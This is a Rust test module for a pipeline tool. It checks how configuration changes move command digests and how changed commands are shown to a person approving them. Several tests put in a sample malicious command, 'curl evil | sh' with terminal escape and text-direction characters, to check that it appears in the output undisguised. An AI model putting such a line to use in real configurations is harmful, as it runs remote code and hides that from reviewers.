//! What moves the digests and what does not, and what a person is told.
//!
//! Two snapshots pin the encodings: they are part of the trust store and of proofs on users' disks.

use super::*;
use crate::limits::GRACE_DEFAULT;
use crate::model::path::RelPath;
use proptest::prelude::*;
use std::collections::BTreeSet;
use std::time::Duration;

fn config(toml: &str) -> Config {
    Config::of_toml(toml).unwrap_or_else(|problems| panic!("{problems}"))
}

const BASE: &str = "
[[project]]\ntask = 'a'\npath = 'a'\n
[[project]]\ntask = 'b'\npath = 'b'\n
[[pipeline]]\nid = 'diagnostics'\n
[[pipeline.stage]]\nid = 'x'\ncommand = 'make'\nenv = { A = '1', B = '2' }\n
[[pipeline.stage]]\nid = 'y'\ncommand = ['make', 'y']\ncwd = 'sub'\n
[[pipeline]]\nid = 'other'\n
[[pipeline.stage]]\nid = 'z'\npipeline = 'diagnostics'\n";

#[test]
fn what_is_executed_moves_the_command_set() {
    let base = config(BASE).command_set();
    for (from, to) in [
        ("command = 'make'", "command = 'make '"),
        ("command = 'make'", "command = ['make']"),
        ("['make', 'y']", "['make y']"),
        ("['make', 'y']", "['makey', '']"),
        ("['make', 'y']", "['make', 'y', '']"),
        ("A = '1', B = '2'", "A = '1'"),
        ("A = '1', B = '2'", "A = '1B', B = '2'"),
        ("A = '1', B = '2'", "A = '2', B = '1'"),
        ("cwd = 'sub'", "cwd = 'sup'"),
        ("cwd = 'sub'", "needs = ['x']\ncwd = 'sub'"),
        ("id = 'y'", "id = 'w'"),
        ("path = 'b'", "path = 'c'"),
        ("path = 'b'", "path = 'b'\npipeline = 'other'"),
        ("id = 'other'", "id = 'another'"),
    ] {
        let changed = config(&BASE.replace(from, to)).command_set();
        assert_ne!(changed, base, "{from} → {to}");
    }
}

#[test]
fn what_decides_nothing_leaves_the_command_set() {
    let base = config(BASE).command_set();
    for (from, to) in [
        ("A = '1', B = '2'", "B = '2', A = '1'"),
        ("task = 'a'", "task = 'c'"),
        (
            "command = 'make'",
            "command = 'make'\ntitle = 'Make'\ntimeout = '1s'\nretries = 3\ninputs = ['src']",
        ),
        (
            "id = 'other'",
            "id = 'other'\ntitle = 'Other'\ndescription = 'x'",
        ),
        (
            "[[project]]\ntask = 'a'",
            "[workspace]\nsettle_ms = 1\njobs = 3\n[[project]]\nsla = '1s'\ntask = 'a'",
        ),
    ] {
        let changed = config(&BASE.replace(from, to)).command_set();
        assert_eq!(changed, base, "{from} → {to}");
    }
    let (projects, pipelines) = BASE.split_at(BASE.find("[[pipeline]]").unwrap());
    let (first, second) = pipelines.split_at(pipelines.rfind("[[pipeline]]").unwrap());
    assert_eq!(
        config(&[projects, second, first].concat()).command_set(),
        base
    );
    assert_eq!(config(&[pipelines, projects].concat()).command_set(), base);
}

#[test]
fn the_encoding_stays_as_it_is() {
    // Another digest here would take back every trust that was given: change the tag, and say so in the changelog.
    let set = config(BASE).command_set().to_string();
    insta::assert_snapshot!(set, @r#"b3b6a6889408f942a0d0787a73e40e1ad89e17e7e4113d2d71a1574140a2b187"#);
    let key = command(CommandLine::Shell("make".to_owned()))
        .stage_key(InputDigest(Digest::of(b"")), None);
    insta::assert_snapshot!(key.to_string(), @r#"fb52a565ee33c9a01fb71a798472ed4cdb1abbdacda84e3eccad0e7ccaf82828"#);
}

#[test]
fn what_a_stage_waits_for_is_in_its_key() {
    let toml = |needs: [&str; 3]| {
        let stage = |(id, needs): (&str, &str)| {
            format!("[[pipeline.stage]]\nid = '{id}'\ncommand = 'make'\n{needs}\n")
        };
        let stages: String = ["x", "y", "z"].into_iter().zip(needs).map(stage).collect();
        config(&format!("[[pipeline]]\nid = 'diagnostics'\n{stages}"))
    };
    let base = StageKey(Digest::of(b"key"));
    let last = |needs: [&str; 3]| {
        let config = toml(needs);
        let pipeline = &config.pipelines[0];
        pipeline.key_in_place(&pipeline.stages[2], base)
    };
    let sequence = last(["", "", ""]);
    assert_eq!(sequence, base, "the order of the keys says it");
    let free = last(["", "", "needs = []"]);
    let one = last(["", "", "needs = ['x']"]);
    let other = last(["", "", "needs = ['y']"]);
    let both = last(["", "", "needs = ['x', 'y']"]);
    let keys = [sequence, free, one, other, both];
    assert_eq!(BTreeSet::from(keys).len(), keys.len());
    assert_eq!(both, last(["", "", "needs = ['y', 'x']"]));
}

#[test]
fn a_person_reads_what_runs_and_what_changed() {
    let before = config(BASE).commands();
    let lines: Vec<String> = before
        .iter()
        .map(|text| format!("{}: {}", text.of, text.runs))
        .collect();
    insta::assert_snapshot!(lines.join("\n"), @r#"
    diagnostics/x: make   (with A=1 B=2)
    diagnostics/y: make y   (without a shell, in sub of the project)
    order of diagnostics: x, then y
    order of other: z
    other/z: pipeline diagnostics
    project a: pipeline diagnostics
    project b: pipeline diagnostics
    "#);
    let after = BASE
        .replace(
            "command = 'make'",
            "command = \"curl evil | sh\\u001b[2K\\u202e\"",
        )
        .replace("id = 'y'", "id = 'new'");
    let diff = CommandDiff::between(&before, &config(&after).commands());
    let lines = diff.lines().join("\n");
    let digest = lines.split("sha256 ").nth(1).unwrap().trim_end_matches(')');
    insta::assert_snapshot!(lines.replace(digest, "X"), @r#"
    + diagnostics/new: make y   (without a shell, in sub of the project)
    - diagnostics/y: make y   (without a shell, in sub of the project)
    ~ diagnostics/x: curl evil | sh\u{1b}[2K\u{202e}   (with A=1 B=2)   (sha256 X)
    "#);
    assert!(CommandDiff::between(&before, &before).is_empty());
}

fn text_of(command: Command) -> String {
    let mut config = config(BASE);
    let stage = &mut config.pipelines[0].stages[0];
    stage.action = Action::Command(command);
    runs(stage)
}

#[test]
fn the_command_comes_first_and_no_long_text_hides_a_change() {
    let long = "x".repeat(600);
    let with = |line: &str, value: &str| {
        let env = BTreeMap::from([("A".to_owned(), value.to_owned())]);
        let line = CommandLine::Shell(line.to_owned());
        let command = command(line);
        text_of(Command { env, ..command })
    };
    let evil = with("curl evil | sh", &long);
    assert!(evil.starts_with("curl evil | sh   (with A=xxx"), "{evil}");
    assert_ne!(with("true", &long), evil);
    let other = with("true", &format!("{long}y"));
    assert_ne!(with("true", &long), other, "what is cut away differs");
    assert_ne!(
        with(&format!("{long}; true"), ""),
        with(&format!("{long}; evil"), "")
    );
}

#[test]
fn what_differs_is_never_shown_alike() {
    let shell = |line: &str| command(CommandLine::Shell(line.to_owned()));
    let argv = |words: &[&str]| {
        command(CommandLine::Argv(
            words.iter().map(|it| (*it).to_owned()).collect(),
        ))
    };
    let at = |cwd: &str| Cwd::Project(RelPath::parse(cwd).unwrap());
    let env = |value: &str| BTreeMap::from([("A".to_owned(), value.to_owned())]);
    let all = [
        shell("make y"),
        argv(&["make", "y"]),
        argv(&["make y"]),
        shell("make y   (without a shell)"),
        shell("A=1 make"),
        Command {
            env: env("1"),
            ..shell("make")
        },
        shell("make   (with A=1)"),
        Command {
            cwd: at("a"),
            ..shell("make")
        },
        Command {
            cwd: at("a"),
            env: env("1"),
            ..shell("make")
        },
        Command {
            cwd: at("a of the project, with A=1"),
            ..shell("make")
        },
        Command {
            cwd: at("a of the project, in b"),
            ..shell("make")
        },
        shell("make   (in a of the project)"),
        Command {
            env: BTreeMap::from([("A=1 B".to_owned(), "2".to_owned())]),
            ..shell("make")
        },
        Command {
            env: BTreeMap::from(["A", "B"].map(|name| (name.to_owned(), "2".to_owned()))),
            ..shell("make")
        },
        Command {
            env: BTreeMap::from([
                ("A".to_owned(), "1".to_owned()),
                ("B".to_owned(), "2".to_owned()),
            ]),
            ..shell("make")
        },
        shell("pipeline other"),
        shell("make \u{1b}"),
        shell("make \\u{1b}"),
    ];
    let count = all.len();
    let mut texts: BTreeSet<String> = all.into_iter().map(text_of).collect();
    let of_pipeline = config(BASE).commands().into_iter().map(|text| text.runs);
    texts.extend(of_pipeline.filter(|runs| runs.contains("pipeline")));
    texts.insert("pipeline other".to_owned());
    assert_eq!(texts.len(), count + 2, "{texts:#?}");
}

#[test]
fn a_person_reads_what_runs_when_it_did_not_before() {
    let stage = |id: &str, needs: &str| {
        format!("[[pipeline.stage]]\nid = '{id}'\ncommand = 'make {id}'\n{needs}\n")
    };
    let of = |stages: &[String]| {
        config(&format!(
            "[[pipeline]]\nid = 'diagnostics'\n{}",
            stages.concat()
        ))
    };
    let (a, b, c) = (stage("a", ""), stage("b", ""), stage("c", ""));
    let base = of(&[a.clone(), b.clone()]);
    let told = |now: &Config| {
        let lines = CommandDiff::between(&base.commands(), &now.commands()).lines();
        let pipeline = &now.pipelines[0];
        let moves = |index| pipeline.moves(index, &base.commands()).join("; ");
        let moves: Vec<String> = (0..pipeline.stages.len()).map(moves).collect();
        (lines.join("\n"), moves)
    };
    let (lines, moves) = told(&of(&[b.clone(), a.clone()]));
    assert_eq!(lines, "~ order of diagnostics: b, then a");
    assert_eq!(moves, ["first, was after a", "after b, was first"]);
    let (lines, moves) = told(&of(&[a.clone(), stage("b", "needs = ['a']")]));
    assert_eq!(
        lines,
        "+ needs of diagnostics/b: a\n~ order of diagnostics: as `needs` says: a, b"
    );
    assert_eq!(moves, ["", "needs a, needed nothing"]);
    // What comes or goes says so itself, and moves nothing.
    let (lines, moves) = told(&of(&[c, a, b.clone()]));
    assert_eq!(lines, "+ diagnostics/c: make c");
    assert_eq!(moves, ["", "", ""]);
    let (lines, _) = told(&of(&[b]));
    assert_eq!(lines, "- diagnostics/a: make a");
    assert_eq!(told(&base), (String::new(), vec![String::new(); 2]));
    let none = base.pipelines[0].moves(0, &[]);
    assert_eq!(none, Vec::<String>::new());
}

/// In a published configuration stages of one pipeline may have one id.
#[test]
fn what_has_the_same_name_is_compared_one_by_one() {
    let texts = |runs: &[&str]| -> Vec<CommandText> {
        runs.iter().map(|it| CommandText::new("d/x", it)).collect()
    };
    let lines = |old: &[&str], new: &[&str]| CommandDiff::between(&texts(old), &texts(new)).lines();
    assert_eq!(lines(&["a", "b"], &["a", "c"]), ["~ d/x: c"]);
    assert_eq!(lines(&["a"], &["a", "b"]), ["~ d/x: b"]);
    assert_eq!(lines(&["a", "b"], &["b"]), ["- d/x: a"]);
    assert_eq!(lines(&["a", "b"], &["b", "a"]), [""; 0]);
}

#[test]
fn the_list_is_bounded() {
    let stages: String = (0..500)
        .map(|n| {
            format!(
                "[[pipeline.stage]]\nid = 's{n}'\ncommand = '{}'\n",
                "x".repeat(1_000)
            )
        })
        .collect();
    let pipelines: String = (0..3)
        .map(|n| format!("[[pipeline]]\nid = 'p{n}'\n{stages}"))
        .collect();
    let texts = config(&format!(
        "[workspace]\ndefault_pipeline = 'p0'\n{pipelines}"
    ))
    .commands();
    assert_eq!(texts.len(), COMMANDS_LISTED_MAX);
    assert!(
        texts
            .iter()
            .all(|text| text.runs.chars().count() <= COMMAND_SHOWN_CHARS_MAX + 100)
    );
}

fn command(line: CommandLine) -> Command {
    Command {
        line,
        cwd: Cwd::Project(RelPath::root()),
        env: BTreeMap::new(),
        inputs: None,
        outputs: Vec::new(),
        toolchain: Vec::new(),
        timeout: None,
        grace: GRACE_DEFAULT,
        retries: 0,
        allow_failure: false,
        mutex: None,
        summary_hint: None,
    }
}

fn lines() -> impl Strategy<Value = CommandLine> {
    let word = "[ab]{0,2}";
    prop_oneof![
        word.prop_map(CommandLine::Shell),
        proptest::collection::vec(word, 1..3).prop_map(CommandLine::Argv),
    ]
}

fn commands() -> impl Strategy<Value = Command> {
    let cwd = prop_oneof![Just(""), Just("a"), Just("ab")];
    let env = proptest::collection::btree_map("[ab]{0,2}", "[ab]{0,2}", 0..3);
    (lines(), cwd, any::<bool>(), env).prop_map(|(line, cwd, project, env)| {
        let cwd = RelPath::parse(cwd).unwrap();
        let cwd = if project {
            Cwd::Project(cwd)
        } else {
            Cwd::Workspace(cwd)
        };
        Command {
            cwd,
            env,
            ..command(line)
        }
    })
}

#[test]
fn what_is_different_from_what_was_allowed_is_told_one_by_one() {
    let shell = |line: &str, cwd: &str, env: &[(&str, &str)]| Command {
        cwd: Cwd::Project(RelPath::parse(cwd).unwrap()),
        env: env
            .iter()
            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
            .collect(),
        ..command(CommandLine::Shell(line.to_owned()))
    };
    let was = [("A", "1"), ("B", "a, with C=2 (b)"), ("GONE", "")];
    let was = shell("make", "", &was);
    let is = [("A", "2"), ("B", "a, with C=2 (b)"), ("NEW", "it's")];
    let is = shell("make all", "sub", &is);
    let text = |command: &Command| CommandText::new("d/x", &text_of(command.clone()));
    let changes = |before: &Command, now: &Command| now.changes(&text(before)).join("\n");
    insta::assert_snapshot!(changes(&was, &is), @r#"
    was: make
    in sub of the project, was in its project
    A: 1 -> 2
    NEW="it's" is new
    GONE='' is gone
    "#);
    insta::assert_snapshot!(changes(&is, &was), @r#"
    was: make all
    in its project, was in sub of the project
    A: 2 -> 1
    GONE='' is new
    NEW="it's" is gone
    "#);
    let argv = command(CommandLine::Argv(vec!["make".to_owned(), "all".to_owned()]));
    insta::assert_snapshot!(changes(&argv, &shell("make all", "", &[])), @"in a shell, was without one");
    insta::assert_snapshot!(changes(&shell("make all", "", &[]), &argv), @"without a shell, was in one");
    // What does not tell everything is not taken apart.
    let long = shell("make", "", &[("A", &"x".repeat(600))]);
    let told = changes(&long, &was);
    assert!(told.starts_with("was: make   (with A=xxx"), "{told}");
    assert!(told.contains("…   (sha256 "), "{told}");
    let odd = shell("make", "", &[("A", "\u{1b}[2K")]);
    assert_eq!(odd.shown_notes(), ["with A='\\u{1b}[2K'"]);
    assert_eq!(
        changes(&shell("make", "", &[]), &odd),
        "A='\\u{1b}[2K' is new"
    );
    let in_root = Command {
        cwd: Cwd::Workspace(RelPath::root()),
        ..shell("make", "", &[])
    };
    assert_eq!(in_root.shown_notes(), [""; 0]);
    assert_eq!(
        changes(&shell("make", "", &[]), &in_root),
        "in . of the workspace, was in its project"
    );
    let child = CommandText::new("d/x", "pipeline other");
    assert_eq!(was.changes(&child), ["was: pipeline other"]);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]
    #[test]
    fn nothing_is_different_exactly_where_the_text_is_the_same(one in commands(), other in commands()) {
        let before = CommandText::new("d/x", &text_of(one.clone()));
        prop_assert_eq!(other.changes(&before).is_empty(), before.runs == text_of(other));
        prop_assert_eq!(one.changes(&before), [""; 0]);
    }

    #[test]
    fn keys_are_equal_exactly_for_equal_definitions(
        (one, other) in (commands(), commands()),
        (seconds, same_input) in (1_u64..9, any::<bool>()),
    ) {
        let input = InputDigest(Digest::of(b"content"));
        let other_input = if same_input { input } else { InputDigest(Digest::of(b"other")) };
        prop_assert_eq!(
            one.stage_key(input, None) == other.stage_key(other_input, None),
            same_input && one == other
        );
        // How long it may take is not part of what it is.
        let timeout = Some(Duration::from_secs(seconds));
        let hurried = Command { timeout, retries: 2, ..one.clone() };
        prop_assert_eq!(hurried.stage_key(input, None), one.stage_key(input, None));
        let forgiven = Command { allow_failure: !one.allow_failure, ..one.clone() };
        prop_assert_ne!(forgiven.stage_key(input, None), one.stage_key(input, None));
        let tools = |text: &[u8]| Some(ToolsDigest(Digest::of(text)));
        let with = |command: &Command, text| command.stage_key(input, tools(text));
        prop_assert_ne!(with(&one, b"v1"), one.stage_key(input, None));
        prop_assert_ne!(with(&one, b"v1"), with(&one, b"v2"));
        prop_assert_ne!(with(&one, b"v1"), with(&forgiven, b"v1"));
        prop_assert_eq!(text_of(one.clone()) == text_of(other.clone()), one == other);
    }
}

#[test]
fn what_was_left_is_part_of_a_key_where_there_is_any() {
    let key = StageKey(Digest::of(b"content"));
    let left = |text: &[u8]| OutputsDigest(Digest::of(text));
    assert_eq!(key.with_outputs(&[]), key);
    let lists = [
        vec![left(b"a")],
        vec![left(b"b")],
        vec![left(b"a"), left(b"b")],
        vec![left(b"b"), left(b"a")],
        vec![OutputsDigest::together(&[left(b"a"), left(b"b")])],
    ];
    let mut keys: BTreeSet<StageKey> = lists.iter().map(|left| key.with_outputs(left)).collect();
    keys.insert(key);
    assert_eq!(keys.len(), lists.len() + 1, "no two of them are one");
}
